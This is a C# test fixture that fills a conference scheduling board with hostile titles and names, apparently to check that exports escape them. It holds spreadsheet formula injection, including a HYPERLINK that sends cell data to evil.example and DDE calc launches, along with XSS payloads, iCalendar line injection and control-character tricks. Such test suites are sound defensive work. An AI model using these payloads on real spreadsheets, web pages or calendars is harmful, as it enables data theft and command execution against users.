using NodaTime;

namespace OpenSpaces.Scheduling.Tests.Publishing;

/// <summary>An agenda whose texts do what texts of strangers do: as far as a board lets them, and, in people's names, further.</summary>
internal static class Hostile
{
    public static readonly string[] Titles =
    [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
        "  +1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "ok;=1+1;\t not".Replace('\t', ' '),
        "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)> & \"quotes\" 'single'",
        "]]> <!-- --> &#0; &lol;",
        "@everyone <@123> @here #free https://evil.example www.evil.example evil.example",
        "[link](javascript:alert(1)) ![x](https://evil.example/p.png) `code` | pipe",
        "नमस्ते दुनिया, खुली जगह में स्वागत है",
        "مرحبا بالعالم abc שלום",
        "👩🏽‍💻👨‍👩‍👧‍👦🏳️‍🌈🇮🇳 emoji",
        string.Concat(Enumerable.Repeat("नि", 200)),
        "＝1+1 wide",
        "a\u0301\u0302\u0303 combining",
    ];

    /// <summary>Names come from the host application, and no rule has seen them.</summary>
    public static readonly Dictionary<PersonId, string> Names = new()
    {
        [Hall.Asha] = "Asha\r\nBEGIN:VEVENT\r\n\u202Eevil\u202C \u0000\u001B[2J",
        [Hall.Ben] = "=1+1,\"Ben\" <script>alert(2)</script>",
    };

    public static Board Board { get; } = Make();

    public static Agenda Agenda { get; } = Agenda.Of(Board, Names);

    private static Board Make()
    {
        TimeSlot[] slots = [.. Enumerable.Range(0, Titles.Length).Select(i => Slot(i))];
        Grid grid = Grid.Create(Hall.Kolkata, [new Room(Hall.Red.Id, "=Red <b>\"table\"</b> @here"), Hall.Blue], slots);
        Board board = Board.Open(new BoardId("hostile"), grid, BoardPolicy.Default with { Name = "Open <space> =1+1 & @everyone" }, Hall.ByFacilitator).OrThrow();
        for (int i = 0; i < Titles.Length; i++)
        {
            board = board
                .With(Hall.Topic($"t{i}", i % 2 == 0 ? Hall.Asha : Hall.Ben) with { Title = Titles[i], Abstract = $"{Titles[i]}\n=2+2\nthird", Tags = ["=tag", "<b>"], Link = new Uri("https://example.org/?q=\"<>'&x=1") })
                .Placed($"t{i}", new Cell(i % 3 == 0 ? Hall.Blue.Id : Hall.Red.Id, slots[i].Id));
        }

        board = board.Publish(Hall.ByFacilitator).OrThrow();
        return board.Withdraw(new ProposalId("t6"), Hall.ByFacilitator.Because("gone")).OrThrow()
            .Place(new ProposalId("t7"), new Cell(Hall.Blue.Id, slots[6].Id), Hall.ByFacilitator.Because("moved")).OrThrow()
            .Publish(Hall.ByFacilitator.At(9)).OrThrow();
    }

    /// <summary>Two days of sessions, the last of the first day past midnight.</summary>
    private static TimeSlot Slot(int i)
    {
        LocalDateTime start = Hall.Day.PlusDays(i / 9).At(new LocalTime(i % 9 == 8 ? 23 : 10 + (i % 9), 0));
        return new TimeSlot(new TimeSlotId($"s{i}"), start, start.PlusMinutes(i % 9 == 8 ? 90 : 60));
    }
}
